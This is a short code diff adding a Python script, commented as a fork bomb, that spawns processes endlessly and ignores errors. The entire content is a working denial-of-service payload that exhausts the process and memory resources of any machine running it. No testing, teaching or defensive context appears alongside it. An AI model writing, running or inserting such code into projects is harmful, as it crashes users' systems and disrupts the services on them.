@@ -1,0 +1,7 @@
+# why: a fork bomb
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
